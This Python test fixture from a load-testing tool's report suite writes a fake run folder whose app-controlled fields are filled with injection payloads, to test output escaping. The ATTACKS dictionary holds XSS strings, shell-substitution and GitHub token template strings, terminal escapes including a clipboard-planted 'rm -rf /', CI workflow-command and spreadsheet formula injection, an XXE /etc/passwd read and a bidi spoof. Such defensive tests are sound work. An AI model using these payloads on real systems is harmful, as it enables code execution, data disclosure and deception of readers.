"""A run's folder in which everything that an app can choose is an attack on whoever reads the outputs."""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from loadtest.navigation.phase import Phase
from loadtest.navigation.point import Manner
from loadtest.navigation.record import ActualDeparture, NavigationRecord, Outcome
from loadtest.report.course import StageInfo
from tests.report.building import BOOT, T0_AT, error, handler, histogram, info, snapshot, visit, write_run

__all__ = ["ATTACKS", "BIDI", "HOSTILE", "LONG_LINE", "hostile_run"]

BIDI = "\u202efdp.exe\u2066\u2069\u200f\u2028\u2029"
"""Direction overrides and Unicode's line separators (CVE-2021-42574)."""
ATTACKS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(2)>' onmouseover='alert(3)",
    "script_end": "</script></style></template><svg onload=alert(4)>",
    "link": "[click](javascript:alert(5)) ![x](http://192.0.2.1/beacon.png) @everyone #1",
    "template": "{{ 7*7 }} {% raw %} ${{ secrets.GITHUB_TOKEN }} $(touch x) `touch x`",
    "csi": "\x1b[31m\x1b[2J\x1b[1;1Hred\x9b31m",
    "osc8": "\x1b]8;;http://192.0.2.1/\x1b\\click\x1b]8;;\x1b\\",
    "osc52": "\x1b]52;c;cm0gLXJmIC8=\x07\x1b]0;title\x07",
    "command": "\n::error::x\r\n::set-output name=a::b\n::stop-commands::t\n::add-mask::e\n##[error]x\n",
    "encoded": "%0A::set-output name=a::b%0D%25,:",
    "hyperlink": '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
    "formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1",
    "minus": "-1",
    "tab": "\t=1+1",
    "xml": "\x00\x01\x08\x0b\x0c\x1f\x7f\x85\ufffe\uffff",
    "surrogates": "\ud83d \udc00\ud800",
    "cdata": "]]> <![CDATA[ --> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x; &#0;",
    "markdown": "| a | b |\n|---|---|\n``` ~~~ ````\n# head\n- item\n</details></summary><!-- \\| **b** _i_",
    "rich": "[/bold][red]x[/][link=http://192.0.2.1/]y[/link]",
    "bidi": BIDI,
}
"""Each kind of attack by its name."""
HOSTILE = "".join(f"{text} " for text in ATTACKS.values())
"""All of them in one text."""
LONG_LINE = "A<b>|`" * 17_000
"""A line of 100 KB."""

_TRACEBACK = f"""Traceback (most recent call last):
  File "/srv/app/site-packages/socketio/async_server.py", line 621, in _trigger_event
    ret = await handler(*args)
  File "/srv/app/{ATTACKS["script"]}/{ATTACKS["encoded"]}.py", line 181, in {ATTACKS["rich"]}
    {HOSTILE}
::error file=app.py,line=1::from the traceback
{LONG_LINE}
KeyError: '{HOSTILE}'
"""
_EARLY = (Phase.PAGE, Phase.OPEN, Phase.CONNECT)


def hostile_run(folder: Path) -> Path:
    """Write the folder of a hostile app's run, and return it.

    Its server errors at P16, leaves residue, breaks assertions, and one of its processes dies; its profile
    has thresholds that hold, fail, and cannot be read.
    """
    attacks = list(ATTACKS.values())
    run = info(
        profile=HOSTILE,
        profile_source=f"profiles/{HOSTILE}.toml",
        profile_text=f"description = '''\n{HOSTILE}\n'''\n",
        description=HOSTILE,
        host=f"http://127.0.0.1:8080/{HOSTILE}",
        versions={"loadtest": "0.1.0", HOSTILE: HOSTILE},
        assertions=(HOSTILE, ATTACKS["hyperlink"], "never judged " + HOSTILE),
        gauges=(HOSTILE, ATTACKS["formula"]),
        thresholds={
            "phases.page": ("p(95)<200", "p(95)<1"),
            f"server.gauges.{HOSTILE}": ("value<1", "value<1e9"),
            f"server.gauges.{ATTACKS['formula']}": ("value<1",),
            ATTACKS["script"]: (HOSTILE, LONG_LINE),
            HOSTILE: ("count==0",),
        },
        stages=(StageInfo(0, 0.0, 30.0, False, HOSTILE),),
        refused=(HOSTILE,),
        silent_boots=("deadb007",),
        dead_boots=("deadb007",),
    )
    records = _records(attacks)
    write_run(folder, run, records, _server(records, attacks))
    _check(folder)
    return folder


def _check(folder: Path) -> None:
    for name in ("run.json", "navigations.jsonl", "server.jsonl"):
        assert (folder / name).read_text(encoding="utf-8").isascii(), name
    json.loads((folder / "run.json").read_text(encoding="utf-8"))


def _records(attacks: list[str]) -> list[NavigationRecord]:
    records = []
    for number in range(60):
        attack = attacks[number % len(attacks)]
        due_s = round(number * 0.2, 3)
        at = ("P16", "P18", "P19")[number % 3]
        record = visit(
            number,
            at,
            Manner.WS_CLOSE,
            page=f"/{attack}",
            due_s=due_s,
            started_s=due_s + 0.001,
            left_s=due_s + 0.4,
            phases_ms=dict.fromkeys((*_EARLY, Phase.LEAVING), 3.0 + number / 10),
            assertions={
                HOSTILE: f"did not come: {attack}" if at == "P19" else None,
                ATTACKS["hyperlink"]: None,
            },
        )
        records.append(record)
    for number, attack in enumerate([*attacks, HOSTILE, LONG_LINE], start=len(records)):
        mishap = visit(
            number,
            "P17",
            None,
            page=LONG_LINE[:2000],
            due_s=12.0,
            started_s=12.0,
            left_s=12.5,
            planned_at="stay",
            actual=ActualDeparture("P17", Manner.FIN),
            outcome=(Outcome.FAILED, Outcome.LOST, Outcome.REFUSED, Outcome.TIMED_OUT)[number % 4],
            error=attack,
            detail=attack,
        )
        records.append(mishap)
    return records


def _server(records: list[NavigationRecord], attacks: list[str]) -> list[Mapping[str, Any]]:
    guilty = [one.number for one in records if one.planned_at == "P16"]
    kept = [one.number for one in records if one.planned_at in ("P16", "P18")]
    names = [*attacks, HOSTILE, LONG_LINE]
    handlers = [
        handler(name, 20, 1, histogram(0.2, 3.0), namespace=f"/{name}")
        | {"ack": histogram(2, 4).to_json(), "in_flight": 0}
        for name in names
    ]
    errors = [
        error(
            guilty if index == 0 else [guilty[index % len(guilty)]],
            id=index,
            what=f"{name} in {name}",
            type=name,
            function=name,
            file=f"{name}.py",
            line=181,
            namespace=f"/{name}",
            event=name,
        )
        for index, name in enumerate([HOSTILE, *attacks, LONG_LINE])
    ]
    tracebacks: list[Mapping[str, Any]] = [
        {"kind": "error", "boot": BOOT, **one, "traceback": _TRACEBACK} for one in errors
    ]
    counts = dict.fromkeys([HOSTILE, *attacks], 9)
    at = T0_AT.timestamp()
    loop = {"lag": histogram(1, 2).to_json(), "longest_ms": 1500.0, "longest_at": at + 3}
    common: dict[str, Any] = {
        "python": HOSTILE,
        "command": HOSTILE,
        "versions": {HOSTILE: HOSTILE},
        "hooks": {"installed": [HOSTILE], "problems": [HOSTILE, LONG_LINE], "missing": [HOSTILE]},
        "loop": loop,
    }
    grown = {"threads": 4, "rss_bytes": 50_000_000, "tasks": 3, "open_files": 12}
    return [
        snapshot(residue=grown, visits=1, heard_at=at + 1, **common, **_vitals(dict.fromkeys(counts, 1), 1)),
        {"kind": "stall", "boot": BOOT, "loop": {**loop, "stack": _TRACEBACK}},
        *tracebacks,
        snapshot(boot="deadb007", pid=4712, visits=2, heard_at=at + 2, **common),
        snapshot(
            errors,
            dict.fromkeys(("sids", "rooms", "environs", "pending_disconnects"), guilty) | {"rooms": kept},
            {**grown, "tasks": 9, "rss_bytes": 60_000_000},
            sequence=2,
            visits=len(records),
            handlers=handlers,
            **common,
            **_vitals(counts, 9),
        ),
        {"kind": "journal", "boot": BOOT, "lost": 1, "entries": list(_journal(records, names))},
    ]


def _vitals(counts: Mapping[str, int], gauge: float) -> dict[str, Any]:
    return {
        "inventory": {"tasks": counts, "threads": counts},
        "gauges": {HOSTILE: gauge, ATTACKS["formula"]: gauge},
    }


def _journal(records: list[NavigationRecord], names: list[str]) -> list[Mapping[str, Any]]:
    opened_at = T0_AT.timestamp()
    entries: list[Mapping[str, Any]] = []
    for record in records[:60]:
        name = names[record.number % len(names)]
        if record.planned_at == "P16":
            entries.append({"kind": "error", "number": record.number, "error": 0, "at": opened_at + 1})
        entries.append(
            {
                "kind": "gone",
                "number": record.number,
                "reason": name,
                "events": ["connect", name, HOSTILE],
                "opened_at": opened_at + record.due_s,
                "at": opened_at + record.due_s + 0.4,
                "begun_at_ms": [1.0, 2.0, 3.0],
                "took_ms": [0.5, 0.5, None],
            }
        )
    return entries
